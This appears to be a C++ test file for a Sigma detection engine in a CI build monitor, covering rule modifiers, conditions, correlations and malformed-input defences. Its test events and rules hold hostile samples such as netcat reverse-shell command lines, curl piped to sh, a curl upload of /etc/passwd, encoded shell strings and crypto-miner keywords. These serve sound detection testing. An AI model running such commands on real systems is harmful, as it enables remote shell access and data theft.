// The Sigma engine piece by piece: each modifier, each condition form,
// filters, correlations (parse and windows), the pipeline, the adapter from
// our events, and the bad inputs of issue 19 (YAML bomb, catastrophic
// regex, 10,000 rules, a condition nested 1,000 deep, unknown modifiers, a
// field mapped twice).
#include <doctest/doctest.h>

#include <chrono>
#include <string>

#include "collector/detect/sigma/correlate.h"
#include "collector/detect/sigma/event_fields.h"
#include "collector/detect/sigma/load.h"
#include "collector/detect/sigma/match.h"
#include "collector/detect/sigma/pipeline.h"
#include "collector/detect/sigma/yaml_input.h"
#include "tests/detect/sigma_fields.h"

using namespace bt::collector::detect::sigma;
using bt::testing::MapFields;

namespace {

RuleSet load(const std::string& yaml) {
  RuleSet set;
  load_text(yaml, "test.yml", builtin_pipeline(), set);
  finish(set);
  return set;
}

// A process_creation rule with the given detection block (indented by 4).
std::string proc_rule(const std::string& detection, const std::string& extra = "") {
  return "title: t\nid: r1\n" + extra + "logsource:\n  product: linux\n  category: process_creation\ndetection:\n" +
         detection;
}

std::string reason(const std::string& yaml) {
  const auto set = load(yaml);
  return set.rejected.empty() ? std::string("(loaded)") : set.rejected[0].reason;
}

MapFields exec(const std::string& exe, const std::string& cmdline) {
  MapFields f;
  f.m["process.exe"] = {exe};
  f.m["derived.command_line"] = {cmdline};
  return f;
}

bool hit(const std::string& yaml, const MapFields& f) {
  const auto set = load(yaml);
  REQUIRE_MESSAGE(set.rules.size() == 1, (set.rejected.empty() ? "" : set.rejected[0].reason));
  return matches(set.rules[0], f);
}

}  // namespace

TEST_CASE("the built-in pipeline loads and routes the Linux categories to our kinds") {
  const auto& p = builtin_pipeline();
  REQUIRE(!p.transformations.empty());
  CHECK(p.name == "buildtrail");
  auto r = route(p, {"linux", "process_creation", ""});
  REQUIRE(r);
  CHECK(r->kinds == std::vector<std::string>{"process_exec"});
  CHECK(r->fields.at("Image") == std::vector<std::string>{"process.exe"});
  CHECK(r->fields.at("CommandLine") == std::vector<std::string>{"derived.command_line"});
  CHECK(r->fields.at("build.id") == std::vector<std::string>{"build.id"});
  CHECK(route(p, {"linux", "file_create", ""})->kinds == std::vector<std::string>{"file_write"});
  CHECK(route(p, {"", "dns", ""})->kinds == std::vector<std::string>{"dns_query"});
  CHECK(route(p, {"buildtrail", "secret_access", ""})->kinds == std::vector<std::string>{"secret_access"});
  auto auditd = route(p, {"linux", "", "auditd"});
  REQUIRE(!auditd);
  CHECK(auditd.error().message.find("auditd") != std::string::npos);
  auto windows = route(p, {"windows", "process_creation", ""});
  REQUIRE(!windows);
  CHECK(windows.error().message == "logsource (product: windows, category: process_creation) has no buildtrail events");
}

TEST_CASE("pipeline: a field mapped twice, an unknown target, an unsupported transformation are refused") {
  const std::string head = "name: x\ntransformations:\n";
  const std::string cond = "    rule_conditions:\n      - type: logsource\n        category: process_creation\n";
  auto twice =
      parse_pipeline(head + "  - id: a\n    type: field_name_mapping\n    mapping: {Image: process.exe}\n" + cond +
                     "  - id: b\n    type: field_name_mapping\n    mapping: {Image: data.cwd}\n" + cond);
  REQUIRE(!twice);
  CHECK(twice.error().message == "pipeline: 'Image' mapped twice (a, b)");
  auto dup_key = parse_pipeline(head +
                                "  - id: a\n    type: field_name_mapping\n    mapping:\n      Image: process.exe\n"
                                "      Image: data.cwd\n" +
                                cond);
  REQUIRE(!dup_key);
  CHECK(dup_key.error().message.find("key 'Image' given twice") != std::string::npos);
  auto unknown = parse_pipeline(head + "  - id: a\n    type: field_name_mapping\n    mapping: {Image: process.nope}\n");
  REQUIRE(!unknown);
  CHECK(unknown.error().message == "pipeline: a: 'Image' mapped to 'process.nope', which is not a buildtrail field");
  auto type = parse_pipeline(head + "  - id: a\n    type: value_placeholders\n");
  REQUIRE(!type);
  CHECK(type.error().message == "pipeline: a: transformation type 'value_placeholders' not supported");
  auto kind = parse_pipeline(head + "  - id: a\n    type: add_condition\n    conditions: {kind: nope}\n");
  REQUIRE(!kind);
  CHECK(kind.error().message == "pipeline: a: 'nope' is not an event kind");
}

TEST_CASE("equality: case-insensitive, wildcards * and ?, escapes, cased") {
  const auto r = proc_rule("  sel:\n    Image: '/usr/bin/c?rl*'\n  condition: sel\n");
  CHECK(hit(r, exec("/USR/BIN/CURL", "")));
  CHECK(hit(r, exec("/usr/bin/curl-7", "")));
  CHECK(!hit(r, exec("/usr/bin/crl", "")));
  CHECK(!hit(r, exec("x/usr/bin/curl", "")));
  const auto esc = proc_rule("  sel:\n    CommandLine: 'a\\*b\\?c\\\\d\\e'\n  condition: sel\n");
  CHECK(hit(esc, exec("", "a*b?c\\d\\e")));
  CHECK(!hit(esc, exec("", "aXb?c\\d\\e")));
  const auto cased = proc_rule("  sel:\n    Image|cased: '/usr/bin/Curl'\n  condition: sel\n");
  CHECK(hit(cased, exec("/usr/bin/Curl", "")));
  CHECK(!hit(cased, exec("/usr/bin/curl", "")));
  // a value spanning lines still matches with *
  CHECK(hit(proc_rule("  sel:\n    CommandLine: 'a*b'\n  condition: sel\n"), exec("", "a\nb")));
}

TEST_CASE("contains, startswith, endswith, all") {
  CHECK(hit(proc_rule("  sel:\n    CommandLine|contains: 'base64 -d'\n  condition: sel\n"),
            exec("", "echo x | BASE64 -d | sh")));
  CHECK(!hit(proc_rule("  sel:\n    CommandLine|contains: 'base64 -d'\n  condition: sel\n"), exec("", "base64")));
  CHECK(hit(proc_rule("  sel:\n    Image|startswith: '/tmp/'\n  condition: sel\n"), exec("/tmp/x", "")));
  CHECK(!hit(proc_rule("  sel:\n    Image|startswith: '/tmp/'\n  condition: sel\n"), exec("/var/tmp/x", "")));
  CHECK(hit(proc_rule("  sel:\n    Image|endswith:\n      - '/nc'\n      - '/ncat'\n  condition: sel\n"),
            exec("/usr/bin/ncat", "")));
  CHECK(!hit(proc_rule("  sel:\n    Image|endswith:\n      - '/nc'\n      - '/ncat'\n  condition: sel\n"),
             exec("/usr/bin/ncatx", "")));
  const auto all =
      proc_rule("  sel:\n    CommandLine|contains|all:\n      - ' -e '\n      - '/bin/sh'\n  condition: sel\n");
  CHECK(hit(all, exec("", "nc -e /bin/sh 10.0.0.1")));
  CHECK(!hit(all, exec("", "nc -e /bin/bash 10.0.0.1")));
}

TEST_CASE("re with i, m, s; regexes are case-sensitive by default") {
  const auto re = proc_rule("  sel:\n    CommandLine|re: 'curl .*\\|\\s*sh'\n  condition: sel\n");
  CHECK(hit(re, exec("", "curl http://x | sh")));
  CHECK(!hit(re, exec("", "CURL http://x | sh")));
  CHECK(hit(proc_rule("  sel:\n    CommandLine|re|i: '^curl'\n  condition: sel\n"), exec("", "CURL x")));
  CHECK(!hit(proc_rule("  sel:\n    CommandLine|re: '^b'\n  condition: sel\n"), exec("", "a\nb")));
  CHECK(hit(proc_rule("  sel:\n    CommandLine|re|m: '^b'\n  condition: sel\n"), exec("", "a\nb")));
  CHECK(!hit(proc_rule("  sel:\n    CommandLine|re: 'a.b'\n  condition: sel\n"), exec("", "a\nb")));
  CHECK(hit(proc_rule("  sel:\n    CommandLine|re|s: 'a.b'\n  condition: sel\n"), exec("", "a\nb")));
  CHECK(reason(proc_rule("  sel:\n    CommandLine|re: '(a'\n  condition: sel\n")).find("field 'CommandLine': re:") ==
        0);
  CHECK(reason(proc_rule("  sel:\n    CommandLine|i: 'a'\n  condition: sel\n")) ==
        "field 'CommandLine': modifiers i, m, s apply to 're' only");
}

TEST_CASE("cidr, lt/lte/gt/gte, exists, null, fieldref") {
  const std::string net = "title: t\nlogsource:\n  product: linux\n  category: network_connection\ndetection:\n";
  MapFields f;
  f.k = "net_connect";
  f.m["data.daddr"] = {"10.1.2.3"};
  f.m["data.dport"] = {"4444"};
  CHECK(hit(net + "  sel:\n    DestinationIp|cidr: '10.0.0.0/8'\n  condition: sel\n", f));
  CHECK(!hit(net + "  sel:\n    DestinationIp|cidr: '192.168.0.0/16'\n  condition: sel\n", f));
  CHECK(hit(net + "  sel:\n    DestinationPort: 4444\n  condition: sel\n", f));
  CHECK(hit(net + "  sel:\n    DestinationPort|gte: 4444\n  condition: sel\n", f));
  CHECK(!hit(net + "  sel:\n    DestinationPort|gt: 4444\n  condition: sel\n", f));
  CHECK(hit(net + "  sel:\n    DestinationPort|lt: 5000\n  condition: sel\n", f));
  CHECK(!hit(net + "  sel:\n    DestinationPort|lte: 4443\n  condition: sel\n", f));
  CHECK(hit(net + "  sel:\n    DestinationHostname|exists: false\n  condition: sel\n", f));
  CHECK(!hit(net + "  sel:\n    DestinationIp|exists: false\n  condition: sel\n", f));
  CHECK(hit(net + "  sel:\n    DestinationHostname: null\n  condition: sel\n", f));
  CHECK(!hit(net + "  sel:\n    DestinationIp: null\n  condition: sel\n", f));
  MapFields v6 = f;
  v6.m["data.daddr"] = {"fd00:ec2::254"};
  CHECK(hit(net + "  sel:\n    DestinationIp|cidr: 'fd00::/8'\n  condition: sel\n", v6));
  CHECK(!hit(net + "  sel:\n    DestinationIp|cidr: '10.0.0.0/8'\n  condition: sel\n", v6));
  MapFields mapped = f;
  mapped.m["data.daddr"] = {"::ffff:10.9.9.9"};
  CHECK(hit(net + "  sel:\n    DestinationIp|cidr: '10.0.0.0/8'\n  condition: sel\n", mapped));
  CHECK(reason(net + "  sel:\n    DestinationIp|cidr: '10.0.0.0/33'\n  condition: sel\n") ==
        "field 'DestinationIp': cidr: bad prefix length in '10.0.0.0/33'");
  CHECK(reason(net + "  sel:\n    DestinationPort|gt: many\n  condition: sel\n") ==
        "field 'DestinationPort': lt/lte/gt/gte: not a number: 'many'");
  // fieldref: the parent is the same program
  const auto ref = proc_rule("  sel:\n    Image|fieldref: ParentImage\n  condition: sel\n");
  MapFields same = exec("/bin/sh", "");
  same.m["derived.parent_exe"] = {"/bin/sh"};
  CHECK(hit(ref, same));
  same.m["derived.parent_exe"] = {"/bin/bash"};
  CHECK(!hit(ref, same));
  CHECK(reason(proc_rule("  sel:\n    Image|fieldref: LogonGuid\n  condition: sel\n")) ==
        "fieldref: field 'LogonGuid' is not mapped for this logsource");
}

TEST_CASE("base64, base64offset|contains, windash") {
  CHECK(base64("ab") == "YWI=");
  CHECK(base64("abc") == "YWJj");
  CHECK(base64_offsets("/bin/sh") == std::vector<std::string>{"L2Jpbi9za", "9iaW4vc2", "vYmluL3No"});
  CHECK(hit(proc_rule("  sel:\n    CommandLine|base64: 'curl'\n  condition: sel\n"), exec("", "Y3VybA==")));
  const auto off = proc_rule("  sel:\n    CommandLine|base64offset|contains: '/bin/sh'\n  condition: sel\n");
  for (const std::string pad : {"", "x", "xy"})
    CHECK(hit(off, exec("", "echo " + base64(pad + "/bin/sh -i") + " | base64 -d")));
  CHECK(!hit(off, exec("", "echo " + base64("/bin/bash") + " | base64 -d")));
  CHECK(reason(proc_rule("  sel:\n    CommandLine|base64offset: 'x'\n  condition: sel\n")) ==
        "field 'CommandLine': modifier 'base64offset' needs 'contains'");
  const auto wd = proc_rule("  sel:\n    CommandLine|windash|contains: ' -exec '\n  condition: sel\n");
  CHECK(hit(wd, exec("", "find . /exec x")));
  CHECK(hit(wd, exec("",
                     "find . \xe2\x80\x93"
                     "exec x")));
  CHECK(!hit(wd, exec("", "find . +exec x")));
}

TEST_CASE("unknown and unsupported modifiers are refused by name") {
  CHECK(reason(proc_rule("  sel:\n    Image|endswithx: 'a'\n  condition: sel\n")) ==
        "field 'Image': unknown modifier 'endswithx'");
  CHECK(reason(proc_rule("  sel:\n    Image|wide|contains: 'a'\n  condition: sel\n")) ==
        "field 'Image': modifier 'wide' is not supported: UTF-16 encodings are Windows-only; our events carry UTF-8");
  CHECK(reason(proc_rule("  sel:\n    Image|expand: '%a%'\n  condition: sel\n")).find("modifier 'expand'") !=
        std::string::npos);
  CHECK(reason(proc_rule("  sel:\n    Image|contains|startswith: 'a'\n  condition: sel\n")).find("more than one") !=
        std::string::npos);
  CHECK(reason(proc_rule("  sel:\n    IntegrityLevel: High\n  condition: sel\n")) ==
        "field 'IntegrityLevel' is not mapped for this logsource");
}

TEST_CASE("condition forms: and, or, not, parentheses, 1 of, all of, N of, them") {
  const std::string sels =
      "  selection_a:\n    Image|endswith: '/a'\n  selection_b:\n    CommandLine|contains: 'bee'\n"
      "  filter_c:\n    CommandLine|contains: 'sea'\n  _hidden:\n    Image: '/never'\n";
  auto with = [&](const std::string& cond) { return proc_rule(sels + "  condition: " + cond + "\n"); };
  const auto a = exec("/x/a", "none"), ab = exec("/x/a", "bee"), abc = exec("/x/a", "bee sea"), b = exec("/y", "bee");
  CHECK(hit(with("selection_a and selection_b"), ab));
  CHECK(!hit(with("selection_a and selection_b"), a));
  CHECK(hit(with("selection_a or selection_b"), b));
  CHECK(hit(with("selection_a and not filter_c"), ab));
  CHECK(!hit(with("selection_a and not filter_c"), abc));
  CHECK(hit(with("not selection_a and selection_b"), b));  // not binds tighter than and
  CHECK(hit(with("selection_a and (selection_b or filter_c)"), ab));
  CHECK(!hit(with("selection_a and (selection_b or filter_c)"), a));
  CHECK(hit(with("1 of selection_*"), b));
  CHECK(!hit(with("all of selection_*"), b));
  CHECK(hit(with("all of selection_*"), ab));
  CHECK(hit(with("2 of them"), ab));
  CHECK(!hit(with("3 of them"), ab));
  CHECK(hit(with("all of them"), abc));                            // _hidden is not part of them
  CHECK(hit(with("selection_a or selection_b and filter_c"), a));  // and binds tighter than or
  // a list of conditions is their OR
  CHECK(hit(proc_rule(sels + "  condition:\n    - selection_b\n    - selection_a\n"), a));
  CHECK(reason(with("selection_z")) == "condition: 'selection_z' is not a search identifier of the rule");
  CHECK(reason(with("1 of nothing_*")) == "condition: 'nothing_*' names no search identifier");
  CHECK(reason(with("selection_a | count() > 5")) ==
        "condition: v1 aggregation ('|') is obsolete; write a correlation rule");
  CHECK(reason(with("(selection_a")) == "condition: missing ')'");
  CHECK(reason(with("selection_a and")) == "condition: ends early");
}

TEST_CASE("detection maps, lists of maps, keyword lists") {
  // a list of maps is an OR of ANDs
  const auto r = proc_rule(
      "  sel:\n    - Image|endswith: '/nc'\n      CommandLine|contains: ' -e '\n    - Image|endswith: '/socat'\n"
      "  condition: sel\n");
  CHECK(hit(r, exec("/bin/nc", "nc -e sh")));
  CHECK(!hit(r, exec("/bin/nc", "nc -l")));
  CHECK(hit(r, exec("/usr/bin/socat", "")));
  // keywords match any field mapped for the logsource
  const auto kw = proc_rule("  keywords:\n    - 'stratum+tcp://'\n    - '--donate-level'\n  condition: keywords\n");
  CHECK(hit(kw, exec("/x/xmrig", "xmrig --donate-level 1")));
  MapFields cwd;
  cwd.m["data.cwd"] = {"/tmp/stratum+tcp://x"};
  CHECK(hit(kw, cwd));
  CHECK(!hit(kw, exec("/usr/bin/make", "make -j8")));
  CHECK(reason(proc_rule("  sel:\n    - Image: a\n    - b\n  condition: sel\n")) ==
        "search 'sel' mixes maps and keywords");
  CHECK(reason(proc_rule("  sel:\n    Image: []\n  condition: sel\n")) == "field 'Image': an empty list of values");
  CHECK(reason(proc_rule("  sel:\n    Image: a\n  timeframe: 5m\n  condition: sel\n")) ==
        "detection timeframe (v1 aggregation) is obsolete; write a correlation rule");
  CHECK(reason("title: t\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  sel:\n"
               "    Image: a\n  condition: sel\n") ==
        "logsource (product: windows, category: process_creation) has no buildtrail events");
  CHECK(reason("title: t\naction: global\n") == "rule collections (action: global) are not supported");
}

TEST_CASE("a rule routes only to its event kind") {
  const auto set = load(proc_rule("  sel:\n    Image: '*'\n  condition: sel\n"));
  REQUIRE(set.rules.size() == 1);
  MapFields f = exec("/bin/x", "");
  CHECK(matches(set.rules[0], f));
  f.k = "net_connect";
  CHECK(!matches(set.rules[0], f));
}

TEST_CASE("the adapter over our events: JSON paths, derived fields, the parent lookup") {
  bt::events::Event e;
  e.build.id = "b-1";
  e.process.exe = "/usr/bin/curl";
  e.process.uid = 1001;
  e.process.parent_key = "10-1";
  bt::events::ProcessExec x;
  x.argv = {"curl", "-d", "@/etc/passwd", "http://x"};
  x.cwd = "/w";
  x.exe_sha256 = "ab";
  x.stdin_fd.kind = "pipe";
  x.stdin_fd.peer_key = "11-1";
  x.written_by = "12-1";
  e.body = x;
  auto values = [](const Fields& f, const char* name) {
    std::vector<std::string> out;
    f.values(name, out);
    return out;
  };
  EventFields plain(e);
  CHECK(plain.kind() == "process_exec");
  CHECK(values(plain, "process.exe") == std::vector<std::string>{"/usr/bin/curl"});
  CHECK(values(plain, "build.id") == std::vector<std::string>{"b-1"});
  CHECK(values(plain, "build.job").empty());
  CHECK(values(plain, "data.argv").size() == 4);
  CHECK(values(plain, "data.stdin_fd.kind") == std::vector<std::string>{"pipe"});
  CHECK(values(plain, "derived.command_line") == std::vector<std::string>{"curl -d @/etc/passwd http://x"});
  CHECK(values(plain, "derived.user") == std::vector<std::string>{"1001"});
  CHECK(values(plain, "derived.hashes") == std::vector<std::string>{"SHA256=ab"});
  CHECK(values(plain, "derived.parent_exe").empty());
  EventFields with_parent(e, [](std::string_view key) -> std::optional<ProcessInfo> {
    if (key == "11-1") return ProcessInfo{"/usr/bin/env", {"env"}, 0, {}};
    if (key == "12-1") return ProcessInfo{"/usr/bin/x86_64-linux-gnu-ld.bfd", {"ld"}, 0, {}};
    if (key != "10-1") return std::nullopt;
    return ProcessInfo{"/usr/bin/npm", {"npm", "install"}, 0, "npm"};
  });
  CHECK(values(with_parent, "derived.parent_exe") == std::vector<std::string>{"/usr/bin/npm"});
  // the package install the process runs under (BT-17): the parent's, from the same table
  CHECK(values(with_parent, "derived.package_install") == std::vector<std::string>{"npm"});
  CHECK(values(plain, "derived.package_install").empty());
  // the pipe's peer on stdin, from the same table; none on stdout
  CHECK(values(plain, "derived.stdin_peer_exe").empty());
  CHECK(values(with_parent, "derived.stdin_peer_exe") == std::vector<std::string>{"/usr/bin/env"});
  CHECK(values(with_parent, "derived.stdout_peer_exe").empty());
  // the program's writer, from the same table
  CHECK(values(plain, "derived.written_by_exe").empty());
  CHECK(values(with_parent, "derived.written_by_exe") == std::vector<std::string>{"/usr/bin/x86_64-linux-gnu-ld.bfd"});
  CHECK(values(with_parent, "derived.parent_command_line") == std::vector<std::string>{"npm install"});
  // the rule over the adapter
  const auto set =
      load(proc_rule("  sel:\n    ParentImage|endswith: '/npm'\n    Image|endswith: '/curl'\n"
                     "  condition: sel\n"));
  REQUIRE(set.rules.size() == 1);
  CHECK(!matches(set.rules[0], plain));
  CHECK(matches(set.rules[0], with_parent));
  // every pipeline target is a field the adapter knows for the kinds routed to
  const auto names = event_field_names(bt::events::Kind::file_write);
  CHECK(std::find(names.begin(), names.end(), "data.new_path") != names.end());
  const auto ups = event_field_names(bt::events::Kind::artifact_upload);
  CHECK(std::find(ups.begin(), ups.end(), "data.files.sha256") != ups.end());
}

TEST_CASE("Sigma filters attach to the rules they name") {
  const std::string rule = proc_rule("  sel:\n    Image|endswith: '/curl'\n  condition: sel\n", "name: curl_use\n");
  const std::string filter =
      "---\ntitle: not in the release job\nlogsource:\n  product: linux\n  category: process_creation\n"
      "filter:\n  rules:\n    - curl_use\n  release:\n    ci.job: 'release/*'\n  condition: not release\n";
  auto set = load(rule + filter);
  REQUIRE(set.rules.size() == 1);
  REQUIRE(set.filters.size() == 1);
  MapFields f = exec("/usr/bin/curl", "");
  CHECK(matches(set.rules[0], f));
  f.m["build.job"] = {"release/main"};
  CHECK(!matches(set.rules[0], f));
  auto orphan = load(filter);
  CHECK(orphan.filters.empty());
  REQUIRE(orphan.rejected.size() == 1);
  CHECK(orphan.rejected[0].reason == "filter: names no loaded rule 'curl_use'");
}

TEST_CASE("correlations: parsed, validated, evaluated per group in windows") {
  const std::string rule = proc_rule("  sel:\n    Image|endswith: '/dig'\n  condition: sel\n", "name: dig\n") +
                           "---\ntitle: curl\nname: curl\nlogsource:\n  product: linux\n  category: process_creation\n"
                           "detection:\n  sel:\n    Image|endswith: '/curl'\n  condition: sel\n";
  const std::string count =
      "---\ntitle: many digs\nid: c1\ncorrelation:\n  type: event_count\n  rules: [dig]\n  group-by: [build.id]\n"
      "  timespan: 1m\n  condition:\n    gte: 3\n";
  const std::string values =
      "---\ntitle: many dig args\ncorrelation:\n  type: value_count\n  rules: [dig]\n  timespan: 1h\n"
      "  condition:\n    field: CommandLine\n    gt: 1\n";
  const std::string ordered =
      "---\ntitle: dig then curl\ncorrelation:\n  type: temporal_ordered\n  rules: [dig, curl]\n  timespan: 30s\n";
  auto set = load(rule + count + values + ordered);
  REQUIRE_MESSAGE(set.rejected.empty(), set.rejected[0].reason);
  REQUIRE(set.correlations.size() == 3);
  CHECK(set.correlations[0].timespan_s == 60);
  CHECK(set.correlations[0].group_by == std::vector<std::string>{"build.id"});
  Correlator corr(set.correlations);
  const Rule& dig = set.rules[0];
  const Rule& curl = set.rules[1];
  MapFields d1 = exec("/usr/bin/dig", "dig a.x"), d2 = exec("/usr/bin/dig", "dig b.x"), c = exec("/usr/bin/curl", "");
  d1.m["build.id"] = d2.m["build.id"] = c.m["build.id"] = {"b1"};
  CHECK(corr.feed(dig, d1, "job", 100).empty());
  auto a = corr.feed(dig, d2, "job", 101);  // a second distinct CommandLine: value_count fires
  REQUIRE(a.size() == 1);
  CHECK(a[0].correlation->title == "many dig args");
  CHECK(a[0].count == 2);
  a = corr.feed(dig, d1, "job", 102);
  REQUIRE(a.size() == 1);
  CHECK(a[0].correlation->title == "many digs");
  CHECK(a[0].group ==
        "job\x1f"
        "b1");
  a = corr.feed(curl, c, "job", 120);  // curl within 30 s after a dig
  REQUIRE(a.size() == 1);
  CHECK(a[0].correlation->title == "dig then curl");
  CHECK(corr.feed(curl, c, "job", 200).empty());    // no dig since
  CHECK(corr.feed(dig, d1, "other", 300).empty());  // windows are per group
  CHECK(corr.feed(dig, d1, "other", 400).empty());  // ...and slide
  // validation
  CHECK(reason("title: c\ncorrelation:\n  type: event_count\n  rules: [x]\n  timespan: 1m\n") ==
        "correlation event_count without a condition");
  CHECK(reason("title: c\ncorrelation:\n  type: sum\n  rules: [x]\n  timespan: 1m\n")
            .find("correlation type 'sum' is not supported") == 0);
  CHECK(
      reason("title: c\ncorrelation:\n  type: temporal\n  rules: [x, y]\n  timespan: 1fortnight\n").find("timespan") ==
      0);
  auto missing = load(rule + "---\ntitle: c\ncorrelation:\n  type: temporal\n  rules: [dig, nope]\n  timespan: 1m\n");
  REQUIRE(missing.rejected.size() == 1);
  CHECK(missing.rejected[0].reason == "correlation: names no loaded rule 'nope'");
  auto unmapped = load(rule +
                       "---\ntitle: c\ncorrelation:\n  type: event_count\n  rules: [dig]\n"
                       "  group-by: [LogonId]\n  timespan: 1m\n  condition: {gte: 2}\n");
  REQUIRE(unmapped.rejected.size() == 1);
  CHECK(unmapped.rejected[0].reason == "correlation: field 'LogonId' is not mapped for rule 'dig'");
}

TEST_CASE("bad input: YAML bomb, deep YAML, duplicate keys, garbage") {
  const std::string bomb =
      "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
      "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n";
  CHECK(reason(bomb).find("YAML aliases are not accepted") == 0);
  CHECK(reason(std::string(5000, '[') + std::string(5000, ']')).find("YAML nested deeper than 32") == 0);
  CHECK(reason("title: a\ntitle: b\n") == "rule: key 'title' given twice");
  CHECK(reason("{{{: :").find("YAML: ") == 0);
  CHECK(reason(proc_rule("  sel:\n    Image: a\n    Image: b\n  condition: sel\n")) ==
        "detection: key 'Image' given twice");
  CHECK(reason(std::string(2 << 20, '#')).find("YAML larger than") == 0);
  // a reason is one line even when yaml-cpp quotes a control character of the input
  CHECK(one_line("a\nb\x01") == "a\\x0ab\\x01");
  const std::string nul("title: S\x01\x00\ncategory: file_event\n", 32);
  CHECK(reason(nul).find('\n') == std::string::npos);
}

TEST_CASE("bad input: a condition nested 1,000 deep is refused") {
  std::string deep;
  for (int i = 0; i < 1000; ++i) deep += "(";
  deep += "sel";
  for (int i = 0; i < 1000; ++i) deep += ")";
  CHECK(reason(proc_rule("  sel:\n    Image: a\n  condition: '" + deep + "'\n")) ==
        "condition: nested deeper than 64 levels");
  std::string nots;
  for (int i = 0; i < 1000; ++i) nots += "not ";
  CHECK(reason(proc_rule("  sel:\n    Image: a\n  condition: " + nots + "sel\n")) ==
        "condition: nested deeper than 64 levels");
  std::string ok;  // 60 levels are fine
  for (int i = 0; i < 60; ++i) ok += "(";
  ok += "sel";
  for (int i = 0; i < 60; ++i) ok += ")";
  CHECK(reason(proc_rule("  sel:\n    Image: a\n  condition: '" + ok + "'\n")) == "(loaded)");
}

TEST_CASE("bad input: catastrophic regexes run in linear time or are refused") {
  const auto set =
      load(proc_rule("  sel:\n    CommandLine|re: '(a+)+$b'\n  sel2:\n    CommandLine|re: '(x*)*y'\n"
                     "  sel3:\n    CommandLine: '*a*a*a*a*a*a*a*a*a*a*a*a*b'\n  condition: 1 of sel*\n"));
  REQUIRE(set.rules.size() == 1);
  MapFields f = exec("", std::string(1 << 20, 'a') + "!");
  const auto t0 = std::chrono::steady_clock::now();
  CHECK(!matches(set.rules[0], f));
  const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0).count();
  CHECK(ms < 5000);  // backtracking would take longer than the universe
  // a program too large for its memory bound is refused at load
  std::string huge;
  for (int i = 0; i < 100; ++i) huge += "[a-z]{1000}";
  CHECK(reason(proc_rule("  sel:\n    CommandLine|re: '" + huge + "'\n  condition: sel\n")) ==
        "field 'CommandLine': re: pattern too large - compile failed");
  // many small values each compiling to a large program: bounded per rule
  std::string many;
  for (int i = 0; i < 300; ++i) many += "  s" + std::to_string(i) + ":\n    CommandLine|re: '[a-z]{1000}'\n";
  CHECK(reason(proc_rule(many + "  condition: 1 of s*\n"))
            .find("the rule's patterns compile to more than 200000 RE2 instructions") != std::string::npos);
}

TEST_CASE("bad input: 10,000 rules load in bounded time") {
  std::vector<std::string> texts;
  for (int i = 0; i < 10000; ++i) {
    texts.push_back("title: rule " + std::to_string(i) + "\nid: r" + std::to_string(i) +
                    "\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  sel:\n"
                    "    CommandLine|contains:\n      - 'tool" +
                    std::to_string(i) + " --x'\n      - '*-y" + std::to_string(i) + "*'\n    Image|endswith: '/bin/t" +
                    std::to_string(i) + "'\n  condition: sel\n");
  }
  const auto t0 = std::chrono::steady_clock::now();
  RuleSet set;
  for (const auto& t : texts) load_text(t, "many.yml", builtin_pipeline(), set);
  finish(set);
  const auto s = std::chrono::duration_cast<std::chrono::seconds>(std::chrono::steady_clock::now() - t0).count();
  CHECK(set.rules.size() == 10000);
  CHECK(set.rejected.empty());
  CHECK(s < 60);
  MapFields f = exec("/bin/t9999", "tool9999 --x");
  std::size_t hits = 0;
  for (const auto& r : set.rules) hits += matches(r, f);
  CHECK(hits == 1);
}

TEST_CASE("our own categories and DNS through the adapter: secret_access, dns, file_event renames") {
  const auto mem = load(
      "title: runner memory read\nlogsource:\n  product: buildtrail\n  category: secret_access\ndetection:\n"
      "  sel:\n    Access: [proc_mem, process_vm_readv]\n    TargetImage|endswith: '/Runner.Worker'\n"
      "  condition: sel\n");
  REQUIRE(mem.rules.size() == 1);
  bt::events::Event e;
  e.process.exe = "/usr/bin/python3";
  bt::events::SecretAccess s;
  s.access = "proc_mem";
  s.target_exe = "/home/runner/bin/Runner.Worker";
  s.target_pid = 812;
  e.body = s;
  CHECK(matches(mem.rules[0], EventFields(e)));
  std::get<bt::events::SecretAccess>(e.body).target_exe = "/usr/bin/make";
  CHECK(!matches(mem.rules[0], EventFields(e)));

  const auto dns = load(
      "title: oast\nlogsource:\n  category: dns\ndetection:\n  sel:\n    query|endswith: ['.oast.fun', "
      "'.interact.sh']\n"
      "  condition: sel\n");
  REQUIRE(dns.rules.size() == 1);
  bt::events::Event q;
  bt::events::DnsQuery d;
  d.name = "abc.c1.interact.sh";
  q.body = d;
  CHECK(matches(dns.rules[0], EventFields(q)));
  std::get<bt::events::DnsQuery>(q.body).name = "registry.npmjs.org";
  CHECK(!matches(dns.rules[0], EventFields(q)));

  const auto rc = load(
      "title: rc\nlogsource:\n  product: linux\n  category: file_event\ndetection:\n  sel:\n"
      "    TargetFilename|endswith: '/.bashrc'\n  condition: sel\n");
  REQUIRE(rc.rules.size() == 1);
  bt::events::Event w;
  bt::events::FileWrite fw;
  fw.operation = "rename";
  fw.path = "/tmp/x";
  fw.new_path = "/home/build/.bashrc";  // a rename onto the file: its new name counts
  w.body = fw;
  CHECK(matches(rc.rules[0], EventFields(w)));
  std::get<bt::events::FileWrite>(w.body).new_path = "/home/build/notes";
  CHECK(!matches(rc.rules[0], EventFields(w)));
}
